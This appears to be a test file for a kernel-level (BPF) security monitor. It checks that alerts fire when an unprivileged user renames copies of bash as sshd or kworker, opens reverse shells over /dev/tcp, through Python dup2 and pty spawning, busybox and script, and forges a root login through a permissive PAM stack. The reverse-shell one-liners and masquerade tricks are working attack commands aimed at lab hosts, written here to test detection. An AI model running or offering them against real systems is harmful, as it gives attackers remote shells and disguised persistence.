"""Trust under attack on the real kernel (issue 11): an unprivileged user cannot borrow the
name of a trusted program to be exempted, nor forge a login with libpam. Every attack runs as
nobody (setpriv) against the real BPF programs and the real libpam."""
import os
import shutil
import socket
import subprocess
import tempfile

import hw
from hw import check, check_eq, get
from natslab import free_port

NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
PAMFORGE = os.path.join(hw.ROOT, "build", "pamforge")


def nobody_dir(tag):
    """A directory nobody owns (where an attacker puts its copies), removed at exit."""
    d = hw.tempdir(tag)
    os.chown(d, 65534, 65534)
    os.chmod(d, 0o755)
    return d


def root_dir(tag):
    """A root-owned 0755 directory in a root-owned tree (/usr/local/libexec): a trusted place."""
    base = "/usr/local/libexec"
    os.makedirs(base, mode=0o755, exist_ok=True)
    d = tempfile.mkdtemp(prefix="%s-%s-" % (hw.RUN_ID, tag), dir=base)
    os.chmod(d, 0o755)
    return d


def unset_loginuid():
    """In the child before exec: no audit loginuid, as for a process of a system service
    (a web server's), whose loginuid an unprivileged process may then set itself."""
    try:
        with open("/proc/self/loginuid", "w") as f:
            f.write("4294967295")
    except OSError:
        pass


def exec_of(agent, exe):
    return agent.wait_for(lambda ev: get(ev, "event.action") == "exec" and
                          get(ev, "process.executable") == exe)


def reverse_shell(agent, exe):
    """exe (a copy of bash) starts a copy of itself with its stdio on a TCP connection to a
    listener of ours, as nobody; returns the inner shell's exec event."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(10)
    port = srv.getsockname()[1]
    p = subprocess.Popen(NOBODY + [exe, "-c", "exec 3<>/dev/tcp/127.0.0.1/%d; %s -i <&3 >&3 2>&3"
                                   % (port, exe)],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    try:
        conn, _ = srv.accept()
        conn.sendall(b"exit\n")
        p.wait(10)
        conn.close()
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        srv.close()
    return agent.wait_for(lambda ev: get(ev, "event.action") == "exec" and
                          get(ev, "process.executable") == exe and
                          get(ev, "hopwatch.stdio") == ["tcp", "tcp", "tcp"]), port


def test_lookalike_sshd_reverse_shell():
    """`cp /bin/bash /tmp/x/sshd` as nobody, used as a reverse shell started by another copy
    named sshd: alerts exactly like a copy named mybash (the rule once exempted sshd by name)."""
    d = nobody_dir("lookalike")
    with hw.Agent() as agent:
        for name in ("sshd", "mybash"):
            exe = os.path.join(d, name)
            subprocess.run(NOBODY + ["cp", "/bin/bash", exe], check=True)
            ev, port = reverse_shell(agent, exe)
            check_eq(get(ev, "hopwatch.exe.trusted"), False, "%s is trusted" % name)
            check_eq(get(ev, "hopwatch.exe.uid"), 65534, "owner of %s" % name)
            a = agent.wait_for(lambda e: get(e, "rule.id") == "reverse-shell" and
                               get(e, "process.entity_id") == get(ev, "process.entity_id"))
            check(name in get(a, "message"), "alert names %s: %r" % (name, get(a, "message")))
            # ... and the other end: the socket on its stdio, the connection bash made
            conn = agent.wait_for(lambda e: get(e, "event.action") == "connection_attempted"
                                  and get(e, "destination.port") == port)
            check_eq((get(ev, "hopwatch.stdio_socket.remote.ip"),
                      get(ev, "hopwatch.stdio_socket.remote.port"),
                      get(ev, "hopwatch.stdio_socket.local.port"),
                      get(ev, "hopwatch.stdio_socket.direction"),
                      get(ev, "hopwatch.stdio_socket.connection_id")),
                     ("127.0.0.1", port, get(conn, "source.port"), "egress",
                      get(conn, "hopwatch.connection.id")), "the exec's stdio socket")
            check_eq((get(a, "destination.ip"), get(a, "destination.port"),
                      get(a, "source.port"), get(a, "hopwatch.connection.id"),
                      get(a, "hopwatch.alert.related_ids")),
                     ("127.0.0.1", port, get(conn, "source.port"),
                      get(conn, "hopwatch.connection.id"), [get(conn, "hopwatch.connection.id")]),
                     "the alert names the other end")
            check(" to 127.0.0.1:%d " % port in get(a, "message"), "message: %r" % a["message"])
        # the facts behind trust: a system binary is trusted, the same file is not in a
        # directory others can write (even a root-owned file), nor in /tmp (sticky, 1777)
        subprocess.run(["/usr/bin/true"], check=True)
        ev = exec_of(agent, "/usr/bin/true")
        check_eq((get(ev, "hopwatch.exe.uid"), get(ev, "hopwatch.exe.mode"),
                  get(ev, "hopwatch.exe.trusted")), (0, "0755", True), "/usr/bin/true")
        open_dir = root_dir("open")
        try:
            os.chmod(open_dir, 0o777)
            exe = os.path.join(open_dir, "true")
            shutil.copy("/usr/bin/true", exe)
            subprocess.run([exe], check=True)
            ev = exec_of(agent, exe)
            check_eq((get(ev, "hopwatch.exe.uid"), get(ev, "hopwatch.exe.trusted")), (0, False),
                     "a root-owned file in a world-writable directory")
            os.chmod(open_dir, 0o755)
            os.chmod(exe, 0o757)
            subprocess.run([exe], check=True)
            ev = agent.wait_for(lambda e: get(e, "event.action") == "exec" and
                                get(e, "process.executable") == exe and
                                get(e, "hopwatch.exe.mode") == "0757")
            check_eq(get(ev, "hopwatch.exe.trusted"), False, "a world-writable root-owned file")
            exe = os.path.join(open_dir, "true2")
            shutil.copy("/usr/bin/true", exe)
            os.chmod(exe, 0o755)
            subprocess.run([exe], check=True)
            ev = exec_of(agent, exe)
            check_eq(get(ev, "hopwatch.exe.trusted"), True, "root-owned 0755 in root-owned dirs")
        finally:
            shutil.rmtree(open_dir, True)


def forge(agent, exe, service, user="root"):
    """Runs exe (a copy of pamforge) as nobody without a loginuid: it listens, we connect, it
    forks and its child calls pam_start(service, user) and pam_open_session, then sh -c.
    Returns (the pam_open_session result it printed, the sh's exec event)."""
    port = free_port()
    marker = "hw-forged-%s-%d" % (hw.RUN_ID, port)
    p = subprocess.Popen(NOBODY + [exe, str(port), service, user, "echo %s; id" % marker],
                         stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True, preexec_fn=unset_loginuid)
    try:
        check_eq(p.stdout.readline().strip(), "listening", "pamforge started")
        c = socket.create_connection(("127.0.0.1", port), timeout=10)
        out, err = p.communicate(timeout=20)
        c.close()
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    ret = [line for line in out.splitlines() if line.startswith("pam_open_session: ")]
    check(ret, "pamforge printed no pam_open_session result: %r %r" % (out, err))
    check(marker in out, "the forged session's command did not run: %r" % out)
    sh = agent.wait_for(lambda ev: get(ev, "event.action") == "exec" and
                        get(ev, "process.args", [""])[0] == "sh" and
                        marker in " ".join(get(ev, "process.args", [])))
    return int(ret[0].split(": ")[1]), sh


def test_forged_login():
    """A program that is not a root service calls pam_start(..., "root") and pam_open_session
    (through a PAM stack with pam_loginuid, which lets a process without a loginuid set its
    own): no successful login for root, whatever the program is named or where it lies."""
    service = "%s-forge" % hw.RUN_ID
    pam_file = "/etc/pam.d/" + service
    with open(pam_file, "w") as f:
        f.write("auth required pam_permit.so\naccount required pam_permit.so\n"
                "session required pam_loginuid.so\nsession required pam_permit.so\n")
    trusted_dir = root_dir("forge")
    try:
        # 1. a copy named sshd in a directory nobody owns: not a service at all
        lookalike = os.path.join(nobody_dir("forge"), "sshd")
        subprocess.run(NOBODY + ["cp", PAMFORGE, lookalike], check=True)
        # 2. a root-owned file in a trusted directory, but run by nobody
        real = os.path.join(trusted_dir, "sshd")
        shutil.copy(PAMFORGE, real)
        os.chmod(real, 0o755)
        with hw.Agent() as agent:
            ret, sh = forge(agent, lookalike, service)
            check_eq(ret, 0, "pam_open_session of the lookalike (the attack must reach PAM)")
            check_eq(get(sh, "hopwatch.audit.loginuid"), 0,
                     "the loginuid nobody gave itself (the attack's premise)")
            check_eq(get(sh, "hopwatch.session.id"), None, "session of the lookalike's shell")
            # its shell is a shell started by a network service, not a login's shell
            agent.wait_for(lambda ev: get(ev, "rule.id") == "service-shell" and
                           get(ev, "process.entity_id") == get(sh, "process.entity_id"))

            ret, sh = forge(agent, real, service)
            check_eq(ret, 0, "pam_open_session of the root-owned copy run by nobody")
            sid = get(sh, "hopwatch.session.id")
            check(sid, "the trusted copy's connection is a session: %r" % sh)
            login = agent.wait_for(lambda ev: get(ev, "event.action") == "user_login" and
                                   get(ev, "hopwatch.session.id") == sid)
            check_eq(get(login, "hopwatch.login.verified"), False, "verified")
            check(get(login, "event.outcome") != "success", "a forged login reported as a "
                  "success: %r" % login)
            agent.stop()
            logins = [ev for ev in agent.events() if get(ev, "event.action") == "user_login"]
            check_eq([get(ev, "event.outcome") for ev in logins if
                      get(ev, "event.outcome") == "success"], [],
                     "successful logins in the whole run")
    finally:
        os.unlink(pam_file)
        shutil.rmtree(trusted_dir, True)


LISTENER = r"""
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.18.0.2", int(sys.argv[1])))
s.listen(1)
s.settimeout(20)
print("ready", flush=True)
c, _ = s.accept()
time.sleep(1.0)
c.sendall(b"exit\n")
time.sleep(0.5)
c.close()
"""

PY_DUP = ("import os, socket, sys; s = socket.create_connection(('198.18.0.2', int(sys.argv[1])));"
          " [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(sys.argv[2], sys.argv[2:])")
PY_PTY = ("import os, pty, socket, sys; s = socket.create_connection(('198.18.0.2', "
          "int(sys.argv[1]))); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')")


def test_reverse_shell_kinds_name_the_other_end():
    """Reverse shells as a new user would write them, as nobody from host A to a listener on
    host B: a renamed bash with /dev/tcp, a renamed dash given the socket by python, busybox
    sh, a python pty shell and a `script` pty shell. Each raises one reverse-shell alert that
    names B's address and port."""
    d = nobody_dir("kinds")
    for name, src in (("kworker", "/bin/bash"), ("kthreadd", "/bin/dash")):
        subprocess.run(NOBODY + ["cp", src, os.path.join(d, name)], check=True)
    kinds = [
        ("renamed bash", lambda port: [os.path.join(d, "kworker"), "-c",
                                       "exec 3<>/dev/tcp/198.18.0.2/%d; exec %s -i <&3 >&3 2>&3"
                                       % (port, os.path.join(d, "kworker"))]),
        ("renamed dash", lambda port: ["python3", "-c", PY_DUP, str(port),
                                       os.path.join(d, "kthreadd"), "-i"]),
        ("busybox sh", lambda port: ["python3", "-c", PY_DUP, str(port), "/usr/bin/busybox",
                                     "sh", "-i"]),
        ("python pty", lambda port: ["python3", "-c", PY_PTY, str(port)]),
        ("script pty", lambda port: ["/bin/bash", "-c",
                                     "exec 3<>/dev/tcp/198.18.0.2/%d; "
                                     "exec script -qc /bin/sh /dev/null <&3 >&3 2>&3" % port]),
    ]
    with hw.Lab() as lab, hw.Agent() as agent:
        for i, (what, argv) in enumerate(kinds):
            port = 40000 + i
            lst = lab.b.popen(["python3", "-c", LISTENER, str(port)], stdout=subprocess.PIPE,
                              text=True)
            try:
                check_eq(lst.stdout.readline().strip(), "ready", "listener for %s" % what)
                sh = lab.a.popen(NOBODY + argv(port), stdin=subprocess.DEVNULL,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                try:
                    sh.wait(20)
                finally:
                    if sh.poll() is None:
                        sh.kill()
                        sh.wait()
                lst.wait(20)
            finally:
                if lst.poll() is None:
                    lst.kill()
                    lst.wait()
            a = agent.wait_for(lambda e: get(e, "rule.id") == "reverse-shell" and
                               get(e, "destination.port") == port, timeout=10)
            check_eq((get(a, "destination.ip"), get(a, "source.ip")),
                     ("198.18.0.2", "198.18.0.1"), "%s: the alert's ends" % what)
            check(get(a, "hopwatch.connection.id"), "%s: the connection is named" % what)
            check(" to 198.18.0.2:%d " % port in get(a, "message"),
                  "%s: message %r" % (what, get(a, "message")))
        agent.stop()
        alerts = [e for e in agent.events() if get(e, "rule.id") == "reverse-shell"]
        check_eq(sorted(get(a, "destination.port") for a in alerts),
                 [40000 + i for i in range(len(kinds))], "one alert per shell")
